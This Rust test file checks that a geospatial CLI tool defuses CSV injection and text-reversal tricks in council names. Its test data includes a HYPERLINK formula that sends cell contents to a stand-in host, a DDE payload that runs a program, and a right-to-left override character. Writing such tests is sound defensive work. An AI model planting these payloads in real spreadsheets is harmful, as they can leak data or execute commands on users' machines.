//! CSV meant for spreadsheets never carries a formula from an input, and tables never let a
//! name break a row or reverse the text after it (issue: CSV injection).

mod common;

use std::path::Path;

use common::{demo, footprint};

/// Names a hostile or careless file could hold, and what a spreadsheet-safe CSV must write.
/// (A leading tab or CR never reaches a report: the loader trims names. The cell tests in
/// src/report cover them.) The eighth council lies in no footprint, so it has a plain name.
const NAMES: [(&str, &str); 8] = [
    (
        "=HYPERLINK(\"http://x/?\"&A1,\"click\")",
        "'=HYPERLINK(\"http://x/?\"&A1,\"click\")",
    ),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("=1+2", "'=1+2"),
    ("-2+3", "'-2+3"),
    ("Line\nbreak", "Line\nbreak"),
    ("Right\u{202e}left", "Right\u{202e}left"),
    ("Greywater", "Greywater"),
];

/// The demo councils with their names replaced by [`NAMES`], in `dir`.
fn hostile_councils(dir: &Path) -> String {
    let text = std::fs::read_to_string(demo("councils.geojson")).unwrap();
    let mut doc: serde_json::Value = serde_json::from_str(&text).unwrap();
    for (f, (name, _)) in doc["features"]
        .as_array_mut()
        .unwrap()
        .iter_mut()
        .zip(NAMES)
    {
        f["properties"]["LADNM"] = serde_json::Value::String(name.to_string());
    }
    let path = dir.join("hostile.geojson");
    std::fs::write(&path, doc.to_string()).unwrap();
    path.display().to_string()
}

/// Every cell of a CSV.
fn cells(csv_text: &[u8]) -> Vec<String> {
    let mut r = csv::Reader::from_reader(csv_text);
    r.records()
        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect()
}

fn run(args: &[&str]) -> Vec<u8> {
    let out = footprint().args(args).arg("-q").output().unwrap();
    assert!(
        matches!(out.status.code(), Some(0 | 1)),
        "{args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

#[test]
fn formulas_from_inputs_are_neutralised_in_every_csv_and_raw_csv_keeps_them() {
    let dir = tempfile::tempdir().unwrap();
    let councils = hostile_councils(dir.path());
    let footprints = demo("footprints.geojson");
    let commands: [Vec<&str>; 4] = [
        vec!["overlaps", &councils, &footprints],
        vec!["coterminosity", &footprints, "--units", &councils],
        vec!["spanning", &councils, "--plans", &footprints],
        vec!["inspect", &councils],
    ];
    for command in &commands {
        let mut args = command.clone();
        args.extend(["-f", "csv"]);
        let safe = cells(&run(&args));
        let mut found = 0;
        for (raw, want) in NAMES {
            if safe.iter().any(|c| c == want) {
                found += 1;
            }
            if raw != want {
                assert!(
                    !safe.iter().any(|c| c == raw),
                    "{command:?}: {raw:?} written raw"
                );
            }
        }
        // inspect has no names; the others list every council in a footprint.
        if command[0] != "inspect" {
            assert!(found >= NAMES.len() - 1, "{command:?}: {safe:?}");
        }
        for c in &safe {
            // Numbers, and footprint's own lists of numbers (inspect's boxes), are not text.
            let numbers = c
                .split(' ')
                .all(|n| n.parse::<f64>().is_ok_and(f64::is_finite));
            let risky = c.starts_with(['=', '+', '@', '\t', '\r'])
                || (c.starts_with('-') && c.len() > 1 && !numbers);
            assert!(!risky, "{command:?}: cell {c:?} would run as a formula");
        }
        args.push("--raw-csv");
        let raw = cells(&run(&args));
        if command[0] != "inspect" {
            for (name, _) in &NAMES[..7] {
                assert!(
                    raw.iter().any(|c| c == name),
                    "{command:?} --raw-csv: {name:?}"
                );
            }
        }
    }
}

#[test]
fn numbers_stay_numbers() {
    // Negative or signed numbers are not formulas: a spreadsheet-safe CSV leaves them alone.
    let csv = run(&["inspect", &demo("councils.geojson"), "-f", "csv"]);
    let text = String::from_utf8(csv).unwrap();
    assert!(
        text.contains(",-1.993489 52.000254 -1.008219 52.500358,"),
        "{text}"
    );
}

#[test]
fn table_names_cannot_break_a_row_or_reverse_text() {
    let dir = tempfile::tempdir().unwrap();
    let councils = hostile_councils(dir.path());
    let footprints = demo("footprints.geojson");
    let table = run(&["overlaps", &councils, &footprints]);
    let text = String::from_utf8(table).unwrap();
    assert!(text.contains("Line\\u{a}break"), "{text}");
    assert!(text.contains("Right\\u{202e}left"), "{text}");
    assert!(!text.contains('\u{202e}'));
    // Every table row starts with a council code: no row was split by a newline.
    let rows: Vec<&str> = text
        .lines()
        .skip_while(|l| !l.starts_with("a_code"))
        .skip(2)
        .collect();
    assert!(!rows.is_empty());
    assert!(rows.iter().all(|r| r.starts_with("X07")), "{rows:?}");
}
